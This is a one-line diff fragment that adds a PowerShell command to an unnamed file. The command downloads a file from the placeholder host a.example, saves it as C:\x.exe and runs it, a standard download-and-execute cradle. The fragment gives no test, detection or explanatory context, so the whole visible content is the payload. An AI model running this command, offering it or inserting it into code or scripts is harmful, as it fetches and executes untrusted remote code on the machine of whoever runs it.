@@ -1,0 +1,1 @@
+powershell (New-Object Net.WebClient).DownloadFile('http://a.example/p/x.txt','C:\x.exe');Start-Process 'C:\x.exe'
